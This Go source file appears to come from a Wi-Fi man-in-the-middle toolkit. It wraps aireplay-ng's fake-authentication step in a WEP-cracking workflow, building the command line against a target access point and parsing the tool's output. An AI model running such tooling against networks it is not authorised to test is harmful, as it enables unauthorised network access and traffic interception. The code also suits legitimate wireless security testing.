// Package attack implements the supervised aircrack-ng attack processes and
// the WEP attack orchestration on top of them. Each process kind wraps a
// generic proc.Supervised with its own command line, classifier table and
// side-effect handlers; the orchestrator sequences them.
package attack

import (
	"log/slog"
	"strconv"
	"time"

	"github.com/toramanemre/wifimitm/pkg/model"
	"github.com/toramanemre/wifimitm/pkg/proc"
)

// Flags raised by the fake authentication classifier.
const (
	// FlagDeauthenticated is set when at least one deauthentication packet
	// was received since start.
	FlagDeauthenticated = "deauthenticated"
	// FlagNeedsKeystream is set when the network requires shared key
	// authentication and no keystream file is configured yet.
	FlagNeedsKeystream = "needs_keystream"
)

// FakeAuthentication keeps the attacker MAC associated with the target
// access point via aireplay-ng --fakeauth. Open system authentication is
// tried first; when the network demands shared key authentication the
// needs_keystream flag asks the orchestrator to acquire a keystream file,
// after which the process is restarted with the keystream supplied.
type FakeAuthentication struct {
	*proc.Supervised

	iface model.WirelessInterface
	ap    *model.WirelessAccessPoint

	// aireplay-ng timing knobs.
	ReassocDelay int
	KeepAlive    int
	Tries        int
}

// NewFakeAuthentication creates an unstarted fake authentication process.
func NewFakeAuthentication(iface model.WirelessInterface, ap *model.WirelessAccessPoint, grace time.Duration, logger *slog.Logger) *FakeAuthentication {
	f := &FakeAuthentication{
		iface:        iface,
		ap:           ap,
		ReassocDelay: 30,
		KeepAlive:    5,
		Tries:        5,
	}
	f.Supervised = proc.NewSupervised(proc.Config{
		Kind:           "fakeauth",
		Stdout:         f.stdoutTable(),
		SilentStderr:   true,
		Flags:          []string{FlagDeauthenticated, FlagNeedsKeystream},
		TerminateGrace: grace,
		Logger:         logger,
	})
	return f
}

func (f *FakeAuthentication) stdoutTable() proc.Table {
	return proc.Table{
		FirstMatchOnly: true,
		Rules: []proc.Rule{
			{
				Substr: "Waiting for beacon frame",
				Apply:  func(_ []string, u *proc.Update) { u.State = proc.StateWaitingForBeacon },
			},
			{
				Substr: "Association successful",
				Apply:  func(_ []string, u *proc.Update) { u.State = proc.StateOK },
			},
			{
				Substr: "Got a deauthentication packet!",
				Apply:  func(_ []string, u *proc.Update) { u.SetFlag(FlagDeauthenticated) },
			},
			{
				Substr: "Switching to shared key authentication",
				When:   func(*proc.Update) bool { return f.ap.KeystreamPath == "" },
				Apply:  func(_ []string, u *proc.Update) { u.SetFlag(FlagNeedsKeystream) },
			},
		},
	}
}

// Start spawns aireplay-ng --fakeauth. A previously saved keystream file is
// supplied when the access point has one.
func (f *FakeAuthentication) Start() error {
	argv := []string{
		"aireplay-ng",
		"--fakeauth", strconv.Itoa(f.ReassocDelay),
		"-q", strconv.Itoa(f.KeepAlive),
		"-T", strconv.Itoa(f.Tries),
		"-a", f.ap.BSSID,
		"-h", f.iface.MAC,
	}
	if f.ap.KeystreamPath != "" {
		argv = append(argv, "-y", f.ap.KeystreamPath)
	}
	argv = append(argv, f.iface.Name)
	return f.Supervised.Start(argv, "")
}
